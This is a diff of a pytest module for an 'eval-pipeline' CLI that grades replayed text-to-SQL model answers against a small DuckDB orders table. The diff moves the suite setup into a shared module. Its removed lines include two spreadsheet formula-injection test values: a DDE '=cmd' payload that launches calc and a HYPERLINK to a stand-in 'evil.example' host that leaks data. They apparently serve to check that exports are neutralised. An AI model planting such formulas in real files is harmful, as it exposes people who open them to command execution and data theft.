@@ -1,12 +1,9 @@
 """The real `eval-pipeline` console script running a small suite end to end, offline.
 
-The suite: a four-row DuckDB `orders` table, four tests with reference SQL, `last_query`
-extraction (no judge needed), and hand-written recordings played back as `replay:` models:
-
-* `good` answers every test right; two of its replies are spreadsheet formulas;
-* `mixed` answers `top_customer` wrong (and the rest right);
-* `drift` starts as `good` (evaluated with it on the first day) and is rewritten to
-  `mixed` before the second day.
+The suite is `replay_suite.py`'s: four tests on a DuckDB `orders` table, `last_query`
+extraction (no judge needed), and hand-written recordings played back as `replay:` models
+(`good` right on every test, `mixed` wrong on `top_customer`, `drift` rewritten from `good`
+to `mixed` before the second day).
 
 One suite is shared by the module (each `eval-pipeline test` is a few seconds of Dagster
 work), in the suite-local Dagster instance `<suite>/.eval/dagster_home`. Tests that change
@@ -18,143 +15,32 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import re
 import subprocess
-import sys
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
-import duckdb
 import pytest
 import yaml
 
-pytestmark = pytest.mark.slow
-
-SCRIPT = Path(sys.executable).with_name("eval-pipeline")
-REKEY = Path(__file__).resolve().parents[2] / "benchmarks" / "rekey_recording.py"
-DAY, NEXT_DAY = "2026-01-01", "2026-01-02"
-ANSI = re.compile(r"\x1b\[")
-FIRST_MODELS = ("replay:good", "replay:drift")
-FIRST_MODELS_ARGS = ("-m", FIRST_MODELS[0], "-m", FIRST_MODELS[1])
-
-CASES = {
-    "total_revenue": ("What is the total revenue?", "SELECT SUM(amount) AS revenue FROM orders"),
-    "order_count": ("How many orders were placed?", "SELECT COUNT(*) AS orders FROM orders"),
-    "top_customer": (
-        "Which customer spent the most?",
-        "SELECT customer FROM orders GROUP BY customer ORDER BY SUM(amount) DESC LIMIT 1",
-    ),
-    "customer_count": (
-        "How many customers bought something?",
-        "SELECT COUNT(DISTINCT customer) AS customers FROM orders",
-    ),
-}
-FAILED_BY_MIXED = "top_customer"
-WRONG_SQL = "SELECT 'cy' AS customer"  # the right answer is 'bo' (80.0 + 42.25)
-FORMULA = "=cmd|' /C calc'!A0"
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Click for details")'
-REPLIES = {"customer_count": FORMULA, "order_count": HYPERLINK}
-
-
-def recording(sql: dict[str, str], replies: dict[str, str]) -> str:
-    """Per test: turn 0 runs one query through `execute_sql`, turn 1 gives the final reply."""
-    lines = [{"_comment": "hand-written for the CLI tests"}]
-    for name, query in sql.items():
-        lines.append(
-            {
-                "test": name,
-                "turn": 0,
-                "completion": {
-                    "text": "",
-                    "tool_calls": [{"name": "execute_sql", "arguments": {"sql_query": query}}],
-                    "usage": {"input_tokens": 120, "output_tokens": 30},
-                },
-            }
-        )
-        lines.append(
-            {
-                "test": name,
-                "turn": 1,
-                "completion": {
-                    "text": replies.get(name, "Here is the figure."),
-                    "usage": {"input_tokens": 200, "output_tokens": 12},
-                },
-            }
-        )
-    return "".join(json.dumps(line) + "\n" for line in lines)
-
-
-GOOD = recording({name: sql for name, (_, sql) in CASES.items()}, REPLIES)
-MIXED = recording(
-    {name: (WRONG_SQL if name == FAILED_BY_MIXED else sql) for name, (_, sql) in CASES.items()},
-    {},
+from eval_pipeline_tests.cli.console import no_traceback, run_cli, written_results
+from eval_pipeline_tests.cli.replay_suite import (
+    CASES,
+    DAY,
+    FAILED_BY_MIXED,
+    FIRST_MODELS,
+    FIRST_MODELS_ARGS,
+    FORMULA,
+    HYPERLINK,
+    MIXED,
+    NEXT_DAY,
+    rekey,
+    write_suite,
 )
 
+pytestmark = pytest.mark.slow
 
-def write_suite(root: Path) -> Path:
-    (root / "cases").mkdir(parents=True)
-    (root / "recordings").mkdir()
-    with duckdb.connect(str(root / "warehouse.duckdb")) as connection:
-        connection.execute(
-            "CREATE TABLE orders AS SELECT * FROM (VALUES (1, 'ada', 120.5), (2, 'bo', 80.0), "
-            "(3, 'bo', 42.25), (4, 'cy', 10.0)) t(order_id, customer, amount)"
-        )
-    config = {
-        "test": {"models": ["replay:good"], "threads": 2, "extraction": "last_query"},
-        "warehouse": {"type": "duckdb", "path": "warehouse.duckdb"},
-        "llm": {
-            "providers": [
-                {"provider": "openai", "api_key": "{{ env('OPENAI_API_KEY') }}", "models": []}
-            ]
-        },
-    }
-    (root / "eval_config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
-    for name, (prompt, sql) in CASES.items():
-        (root / "cases" / f"{name}.yml").write_text(
-            yaml.safe_dump({"name": name, "prompt": prompt, "sql": sql}, sort_keys=False)
-        )
-    (root / "recordings" / "good.jsonl").write_text(GOOD)
-    (root / "recordings" / "mixed.jsonl").write_text(MIXED)
-    (root / "recordings" / "drift.jsonl").write_text(GOOD)
-    rekey(root, "good", "mixed", "drift")
-    return root
-
-
-def rekey(root: Path, *recordings: str) -> None:
-    """Fill in the request keys of hand-written recordings, with the documented script."""
-    result = subprocess.run(
-        [sys.executable, str(REKEY), str(root), *recordings],
-        env=cli_env(),
-        capture_output=True,
-        text=True,
-        timeout=120,
-    )
-    assert result.returncode == 0, result.stdout + result.stderr
-
-
-def cli_env() -> dict[str, str]:
-    """The caller's environment without what would redirect the instance or force colour."""
-    drop = {"DAGSTER_HOME", "EVAL_SUITE_DIR", "FORCE_COLOR", "CLICOLOR_FORCE", "TTY_COMPATIBLE"}
-    return {k: v for k, v in os.environ.items() if k not in drop}
-
-
-def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [str(SCRIPT), *args], cwd=cwd, env=cli_env(), capture_output=True, text=True, timeout=180
-    )
-
-
-def written_results(output: str) -> Path:
-    """The results file named by the "results written to …" line, whole on one line even
-    when the path is longer than the 80 columns a pipe gets (CI logs, copy-paste)."""
-    match = re.search(r"^results written to (\S+\.json)$", output, re.MULTILINE)
-    assert match, output
-    return Path(match.group(1))
-
-
-def no_traceback(result: subprocess.CompletedProcess[str]) -> None:
-    assert "Traceback" not in result.stderr + result.stdout, result.stderr
+ANSI = re.compile(r"\x1b\[")
 
 
 @pytest.fixture(scope="module")
